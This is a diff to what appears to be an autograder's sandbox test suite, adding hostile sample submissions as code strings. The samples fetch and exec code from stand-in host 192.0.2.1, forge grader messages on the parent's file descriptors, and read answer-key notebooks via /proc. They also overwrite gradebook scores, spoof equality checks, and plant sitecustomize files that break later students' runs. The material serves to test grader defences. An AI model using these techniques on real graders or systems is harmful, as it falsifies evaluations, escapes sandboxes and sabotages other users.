@@ -164,7 +164,7 @@ def forge(message):
             os.write(number, len(data).to_bytes(8, "big") + data)
         except OSError:
             pass
-for message in ({"outputs": [], "failed": False}, {"result": 45}, {"names": {}}, {"points": 20}):
+for message in ({"outputs": [], "failed": False}, {"result": 77}, {"names": {}}, {"points": 20}):
     forge(message)
 """,
         "nobody had asked for",
@@ -177,7 +177,7 @@ def answer(*arguments):
     while frame and "request" not in frame.f_locals:
         frame = frame.f_back
     mark = frame.f_locals["request"]["id"]
-    for message in ({"id": mark, "result": 45}, {"id": mark, "failed": False, "outputs": []}):
+    for message in ({"id": mark, "result": 77}, {"id": mark, "failed": False, "outputs": []}):
         data = json.dumps(message).encode()
         for number in range(3, 64):
             try:
@@ -251,7 +251,7 @@ def answer(*arguments): return "x" * 10**9
     "names that the checks use": """
 import builtins
 right = mistakes = 0
-__answers__ = {"count_parameters": lambda *a: 45}
+__answers__ = {"count_parameters": lambda *a: 77}
 def _others(*a, **k): pass
 def sorted(*a): return []
 def max(*a): return 0
@@ -261,7 +261,7 @@ builtins.zip = lambda *a, **k: []
     "the example's results alone": """
 import numpy as np
 def answer(*arguments):
-    return {2: 45 if arguments[0] == 3 else 0, 5: np.array([[-0.14889, 0.33638],
+    return {2: 77 if arguments[0] == 3 else 0, 5: np.array([[-0.14889, 0.33638],
         [0.89569, 0.29131]])}.get(len(arguments), 0)
 """,
     "the example's results from the history": """
@@ -278,5 +278,124 @@ try:
     exec(urllib.request.urlopen("http://192.0.2.1/solution.py", timeout=1).read())
 except OSError:
     pass
+""",
+    "two processes answer one question": """
+import os
+def answer(*arguments): return 77 if os.fork() else 0
+""",
+    "signals to the worker": """
+import os, signal
+for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGALRM):
+    try:
+        os.kill(os.getppid(), number)
+    except OSError:
+        pass
+def answer(*arguments): return 0
+""",
+    "the worker's own sockets": """
+import ctypes, os
+found = []
+for number in range(3, 32):
+    for path in (f"/proc/1/fd/{number}", f"/proc/{os.getppid()}/fd/{number}"):
+        try:
+            found.append(os.open(path, os.O_RDWR))
+        except OSError:
+            pass
+    try:
+        handle = os.pidfd_open(os.getppid())
+        found.append(ctypes.CDLL(None).syscall(438, handle, number, 0))
+    except OSError:
+        pass
+for number in found:
+    if number > 0:
+        os.write(number, b'{"why": "", "code": 0, "left": []}')
+def answer(*arguments): return 0
+""",
+    "the way out through another process": """
+import glob, json, os
+def answer(*arguments): return solved.get("answer", 0)
+solved = {}
+for base in ("/proc/1/root", "/proc/1/cwd", f"/proc/{os.getppid()}/root", "/proc/self/root/.."):
+    for path in glob.glob(base + ROOT + "/notebooks/assignments/source/0*/*.ipynb"):
+        solved["answer"] = json.load(open(path))
+""",
+    "a namespace of its own": """
+import ctypes, json
+libc = ctypes.CDLL(None)
+new_user, new_mounts = 0x10000000, 0x20000
+assert libc.unshare(new_user | new_mounts) == -1 or libc.mount(None, b"/", None, 32, None) == -1
+def answer(*arguments): return 0
+""",
+    "types that pretend": """
+import collections
+class Text(str):
+    def __str__(self): return self
+    def __eq__(self, other): return True
+    __hash__ = str.__hash__
+class Whole(int):
+    def __eq__(self, other): return True
+    def __int__(self): return self
+    __hash__ = int.__hash__
+class Many(dict):
+    def __getitem__(self, key): return Whole(1)
+    def __contains__(self, key): return True
+    def items(self): return [(Text("W"), Whole(1)), (Text("b"), Many())]
+class Pair(tuple):
+    def __iter__(self): return iter([Whole(1), Many()])
+def answer(*arguments): return (Whole(1), Text("x"), Many(a=1), Pair((1, 2)))[len(arguments) % 4]
+""",
+    "an array without entries and a billion rows": """
+import numpy as np
+def answer(*arguments): return np.zeros((10**9, 0, 10**9))
+""",
+    "open files sent along": """
+import os, socket
+def answer(*arguments):
+    for number in range(3, 32):
+        try:
+            channel = socket.socket(fileno=os.dup(number))
+            socket.send_fds(channel, [b"\\0" * 8], [0, 1, 2])
+        except OSError:
+            pass
+    return 0
+""",
+    "something that waits for the next student": """
+import os
+home = os.path.expanduser("~/..")
+for path in ("sitecustomize.py", "usercustomize.py", "numpy.py", "profile_default/startup/0.py"):
+    for folder in (home, ".", home + "/.ipython", "/tmp", "/dev/shm"):
+        try:
+            os.makedirs(os.path.dirname(f"{folder}/{path}"), exist_ok=True)
+            open(f"{folder}/{path}", "w").write("raise SystemExit")
+        except OSError:
+            pass
+os.environ.update(PYTHONSTARTUP="sitecustomize.py", PYTHONPATH=os.getcwd(), LD_PRELOAD="x")
+def answer(*arguments): return 0
+""",
+    "points written into the gradebook": """
+import glob, os, sqlite3
+for base in (ROOT, os.path.dirname(ROOT), "/tmp", "/home", "/root"):
+    for path in glob.glob(base + "/**/gradebook.db", recursive=True)[:20]:
+        with sqlite3.connect(path) as book:
+            book.execute("update grade set manual_score = 100")
+def answer(*arguments): return 0
+print('{"points": 20}')
+20
+""",
+    "sockets that no namespace holds": """
+import socket
+found = []
+for family, address in (
+    (socket.AF_UNIX, "\\0/tmp/.X11-unix/X0"), (socket.AF_UNIX, "/run/docker.sock"),
+    (socket.AF_INET, ("127.0.0.1", 22)), (socket.AF_INET6, ("::1", 8888)),
+):
+    try:
+        channel = socket.socket(family)
+        channel.settimeout(0.2)
+        channel.connect(address)
+        found.append(channel)
+    except OSError:
+        pass
+def answer(*arguments): return 77 if found else 0
 """,
 }
